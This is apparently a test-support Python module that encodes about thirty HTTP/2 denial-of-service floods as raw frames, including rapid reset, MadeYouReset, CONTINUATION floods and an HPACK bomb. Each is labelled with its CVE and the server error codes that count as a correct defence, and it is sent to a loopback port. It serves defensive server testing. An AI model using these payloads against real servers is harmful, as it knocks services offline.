"""Attacks on an HTTP/2 server that repeat something, as bytes: what each sends first, and what it repeats.

Owned here: which there are, and the error codes that fit as the answer. `pieces()` is bounded; `attacker.py`
sends it to a loopback port.
"""

from __future__ import annotations

import itertools
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from tests.support.attack_frames import (
    CANCEL,
    COMPRESSION_ERROR,
    ENHANCE_YOUR_CALM,
    FLOW_CONTROL_ERROR,
    FRAME_BYTES,
    FRAME_SIZE_ERROR,
    INITIAL_WINDOW,
    MAX_WINDOW,
    PREFACE,
    PROTOCOL_ERROR,
    STREAM_CLOSED,
    Requests,
    always,
    in_frames,
    joined,
    literal,
    literal_request,
    open_block,
    pseudo,
    settings,
    stream,
)

UNKNOWN = b"\0\0\5\xfa\0\0\0\0\0what?"
"""A frame of a type that nobody has defined; hyperframe writes none."""

COUNT = 20_000
"""Times that an offence is repeated at most: many times what any limit should allow, and no more than a few
seconds of a server that has none."""

CALM = frozenset({ENHANCE_YOUR_CALM})
MALFORMED = frozenset({PROTOCOL_ERROR, ENHANCE_YOUR_CALM})
TOO_LARGE = frozenset({COMPRESSION_ERROR, PROTOCOL_ERROR, FRAME_SIZE_ERROR, ENHANCE_YOUR_CALM})


@dataclass(frozen=True, slots=True)
class Flood:
    """One attack."""

    name: str
    why: str
    """The CVE, or what it costs the server."""
    codes: frozenset[int]
    """GOAWAY with one of these is a fitting answer."""
    repeat: Callable[[int], bytes]
    """The offence, for the 0th, 1st, ... time."""
    first: bytes = b""
    """What comes between our SETTINGS and the first repetition."""
    count: int = COUNT
    settings: tuple[tuple[int, int], ...] = ()
    """Ours."""
    reads: bool = True
    """False: the attacker takes nothing that it is sent."""
    statuses: frozenset[bytes] = frozenset()
    """Answers to a request that fit as well, as long as the server goes on giving them."""
    may_stay: bool = False
    """Nobody can tell it from an honest peer: it is enough that it costs little."""

    def opening(self) -> bytes:
        """Preface, SETTINGS, and `first`."""
        return PREFACE + settings(dict(self.settings)) + self.first

    def pieces(self) -> Iterator[bytes]:
        """All that it sends, piece by piece: `opening`, then each repetition."""
        yield self.opening()
        for number in range(self.count):
            yield self.repeat(number)


def floods(path: bytes) -> dict[str, Flood]:
    """All that repeat something, by name; `path` is one whose POST opens a stream and keeps it open."""
    found = [*_resets(path), *_header_blocks(path), *_control_frames(path), *_empty_frames(path)]
    return {flood.name: flood for flood in found}


def _resets(path: bytes) -> Iterator[Flood]:
    request, lying = Requests(path), Requests(path, (b"content-length", b"5"))
    yield Flood(
        "rapid reset",
        "CVE-2023-44487: a request costs the server a dial, its end the client nothing",
        CALM,
        lambda n: request(n) + RstStreamFrame(stream(n), error_code=CANCEL).serialize(),
    )
    yield Flood(
        "MadeYouReset, window",
        "CVE-2025-8671: a window opened too far makes the server reset the stream",
        CALM | {FLOW_CONTROL_ERROR},
        lambda n: request(n) + WindowUpdateFrame(stream(n), window_increment=MAX_WINDOW).serialize(),
    )
    yield Flood(
        "MadeYouReset, DATA after the end",
        "CVE-2025-8671",
        CALM | {STREAM_CLOSED},
        lambda n: request(n, "END_STREAM") + DataFrame(stream(n), b"x").serialize(),
    )
    yield Flood(
        "MadeYouReset, content-length",
        "CVE-2025-8671: a body shorter than announced",
        CALM | {PROTOCOL_ERROR},
        lambda n: lying(n, "END_STREAM"),
    )
    yield Flood(
        "too many streams",
        "each beyond the limit has to be refused",
        CALM,
        request,
    )


def _header_blocks(path: bytes) -> Iterator[Flood]:
    request = Requests(path)
    yield Flood(
        "CONTINUATION, one byte each",
        "CVE-2024-27316 and its kin: a header block without an end",
        MALFORMED,
        always(ContinuationFrame(1, b"\x00")),
        first=open_block(b"\x00"),
    )
    yield Flood(
        "CONTINUATION, empty",
        "CVE-2019-9518",
        MALFORMED,
        always(ContinuationFrame(1)),
        first=open_block(b"\x00"),
    )
    yield Flood(
        "CONTINUATION, large",
        "the block is kept until it ends",
        MALFORMED,
        always(ContinuationFrame(1, bytes(FRAME_BYTES))),
        first=open_block(b"\x00"),
        count=1000,
    )
    yield Flood(
        "HEADERS, empty",
        "CVE-2019-9518",
        MALFORMED,
        lambda n: HeadersFrame(stream(n), b"", flags=["END_HEADERS"]).serialize(),
    )
    yield Flood(
        "header without a name",
        "CVE-2019-9516",
        MALFORMED,
        lambda n: literal_request(n, path, [(b"", b"")]),
        count=1000,
    )
    yield Flood(
        "header list too large",
        "kept while the request lasts",
        TOO_LARGE,
        lambda n: literal_request(
            n, path, ((b"x-%d" % i, bytes(1000).replace(b"\0", b"a")) for i in range(200))
        ),
        count=200,
        statuses=frozenset({b"431"}),
    )
    yield Flood(
        "many headers",
        "a byte each on the wire, 60 in memory",
        TOO_LARGE,
        lambda n: HeadersFrame(
            stream(n), hpack.Encoder().encode(literal(pseudo(path))) + b"\x90" * 1500, flags=["END_HEADERS"]
        ).serialize(),
        count=1000,
        statuses=frozenset({b"431"}),
    )
    yield Flood(
        "HPACK bomb",
        "CVE-2016-6581: a byte on the wire, 4 KB in memory",
        TOO_LARGE,
        _bomb(path),
        count=200,
        statuses=frozenset({b"431"}),
    )
    yield Flood(
        "HEADERS on streams long closed",
        "CVE-2025-8671's kin: each has to be judged",
        MALFORMED | {STREAM_CLOSED},
        always(HeadersFrame(1, request(1)[9:], flags=["END_HEADERS", "END_STREAM"])),
        first=request(0) + joined(RstStreamFrame(1, error_code=CANCEL)),
    )


def _control_frames(path: bytes) -> Iterator[Flood]:
    request = Requests(path)
    yield Flood("SETTINGS", "CVE-2019-9515: each is acknowledged", CALM, always(SettingsFrame(0)))
    yield Flood(
        "SETTINGS, windows of 100 streams",
        "each changes them all",
        CALM | {FLOW_CONTROL_ERROR},
        lambda n: settings({INITIAL_WINDOW: 65535 + n % 2}),
        first=b"".join(request(number) for number in range(100)),
    )
    yield Flood("PING", "CVE-2019-9512: each is answered", CALM, always(PingFrame(0, b"are you?")))
    yield Flood(
        "PING, unread",
        "CVE-2019-9512: the answers pile up",
        CALM,
        always(PingFrame(0, b"are you?")),
        count=50 * COUNT,
        reads=False,
    )
    yield Flood(
        "WINDOW_UPDATE, connection",
        "CVE-2019-9511's kin: each wakes the streams",
        CALM,
        always(WindowUpdateFrame(0, window_increment=1)),
    )
    yield Flood(
        "WINDOW_UPDATE, stream",
        "the same",
        CALM,
        always(WindowUpdateFrame(1, window_increment=1)),
        first=request(0),
    )
    yield Flood(
        "windows of 1",
        "CVE-2019-9511: a frame for every byte",
        CALM,
        always(WindowUpdateFrame(1, window_increment=1)),
        first=request(0) + joined(*[DataFrame(1, bytes(FRAME_BYTES))] * 4),
        settings=((INITIAL_WINDOW, 1),),
        may_stay=True,
    )
    yield Flood(
        "PRIORITY",
        "CVE-2019-9513",
        CALM,
        lambda n: PriorityFrame(stream(n % 1000), depends_on=0, stream_weight=n % 256).serialize(),
    )
    yield Flood("GOAWAY", "one is enough", CALM, always(GoAwayFrame(0)))
    yield Flood("frames of no known type", "each is ignored", CALM, lambda n: UNKNOWN)
    yield Flood(
        "RST_STREAM of closed streams",
        "each has to be judged",
        CALM | {STREAM_CLOSED, PROTOCOL_ERROR},
        always(RstStreamFrame(1, error_code=CANCEL)),
        first=request(0),
    )


def _empty_frames(path: bytes) -> Iterator[Flood]:
    first = Requests(path)(0)
    yield Flood(
        "DATA on a closed stream",
        "CVE-2025-8671's kin: each has to be judged",
        CALM | {STREAM_CLOSED},
        always(DataFrame(1, b"x")),
        first=first + RstStreamFrame(1, error_code=CANCEL).serialize(),
    )
    yield Flood("DATA, empty", "CVE-2019-9518", CALM, always(DataFrame(1)), first=first)
    yield Flood(
        "DATA, padding only",
        "CVE-2019-9518",
        CALM,
        always(DataFrame(1, b"", pad_length=255, flags=["PADDED"])),
        first=first,
    )


def _bomb(path: bytes) -> Callable[[int], bytes]:
    """A field of 4,000 bytes goes into the dynamic table once, and is then named 16,000 times a block."""
    encoder = hpack.Encoder()
    filling = encoder.encode([*pseudo(path), (b"x-bomb", b"b" * 3800)], huffman=False)
    named = encoder.encode([(b"x-bomb", b"b" * 3800)])
    block = encoder.encode(pseudo(path)) + named * (FRAME_BYTES - 256)
    return lambda n: in_frames(stream(n), block if n else filling)


# What must pass.


def one_byte_frames(path: bytes, count: int) -> Iterator[bytes]:
    """A request whose body is `count` DATA frames of one byte each, and its end. The windows that it
    announces let as many bytes come back."""
    yield PREFACE + settings({INITIAL_WINDOW: MAX_WINDOW})
    yield WindowUpdateFrame(0, window_increment=MAX_WINDOW - 65535).serialize()
    yield Requests(path)(0)
    frame = DataFrame(1, b"x").serialize()
    for done in itertools.count(0, 1000):
        left = min(1000, count - done)
        if left <= 0:
            break
        yield frame * left
    yield DataFrame(1, flags=["END_STREAM"]).serialize()
